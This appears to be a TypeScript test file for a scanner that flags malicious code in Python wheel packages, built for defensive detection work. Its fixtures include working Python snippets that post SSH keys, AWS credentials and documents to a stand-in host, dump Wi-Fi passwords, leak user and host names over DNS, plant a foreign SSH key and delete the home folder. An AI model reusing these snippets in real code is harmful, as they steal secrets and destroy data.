/** What is only done when somebody calls it may be a product's purpose; some of it is nobody's. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { forgeWheel } from '../forge/forge.ts';
import { scan, told } from './payload.ts';

function verdictOf(body: string): { readonly verdict: string; readonly why: string } {
  const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': '', 'demo/core.py': body }), 'demo-1.0-py3-none-any.whl');
  return { verdict: report.verdict, why: told(report) };
}

const THEFTS: Readonly<Record<string, string>> = {
  'keys of a machine that are posted': "import glob, os, requests\ndef main():\n    for path in glob.glob(os.path.expanduser('~/.ssh/*')):\n        requests.post('https://files.example/in', data=open(path, 'rb').read())\n",
  'credentials of a cloud posted to somebody else': "import os, requests\ndef main():\n    with open(os.path.expanduser('~/.aws/credentials')) as file:\n        requests.post('https://files.example/in', data=file.read())\n",
  'documents that are posted': "import os, requests\ndef main():\n    for folder, _, names in os.walk(os.path.expanduser('~/Documents')):\n        for name in names:\n            requests.post('https://files.example/in', files={'file': open(os.path.join(folder, name), 'rb')})\n",
  'the passwords of a wireless network that are posted': "import subprocess, requests\ndef main():\n    told = subprocess.check_output('netsh wlan show profile name=forged key=clear', shell=True)\n    requests.post('https://files.example/in', data=told)\n",
  'a name made of the user and the host': "import getpass, socket\ndef main():\n    socket.gethostbyname('%s.%s.files.example' % (socket.gethostname(), getpass.getuser()))\n",
  'a key of somebody else that may log in': "import os\ndef main():\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as file:\n        file.write('ssh-ed25519 AAAAforged hello')\n",
  'a home folder that is deleted': "import os, shutil\ndef main():\n    shutil.rmtree(os.path.expanduser('~'))\n",
};

for (const [what, body] of Object.entries(THEFTS)) {
  test(`${what}, once somebody calls it`, () => {
    const { verdict, why } = verdictOf(body);
    assert.ok(verdict === 'suspicious' || verdict === 'malicious', why);
  });
}

const HONEST: Readonly<Record<string, string>> = {
  'the public half of a key': "import os, requests\ndef register(token):\n    with open(os.path.expanduser('~/.ssh/id_ed25519.pub')) as file:\n        requests.post('https://files.example/keys', json={'key': file.read()}, headers={'token': token})\n",
  'credentials of a cloud for the cloud': "import os, requests\ndef login():\n    with open(os.path.expanduser('~/.aws/credentials')) as file:\n        requests.post('https://sts.amazonaws.com/', data=file.read())\n",
  'a document that was chosen': "import requests\ndef upload(path):\n    with open(path, 'rb') as file:\n        requests.post('https://files.example/in', files={'file': file})\n",
  'the host looked up in its own domain': "import socket\ndef address():\n    return socket.gethostbyname(socket.gethostname() + '.local')\n",
  'a key that the caller hands over': "import os\ndef allow(key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as file:\n        file.write(key)\n",
  'a cache that is deleted': "import os, shutil\ndef clear():\n    shutil.rmtree(os.path.expanduser('~/.cache/demo'))\n",
};

for (const [what, body] of Object.entries(HONEST)) {
  test(`${what} is left alone`, () => {
    const { verdict, why } = verdictOf(body);
    assert.equal(verdict, 'clean', why);
  });
}
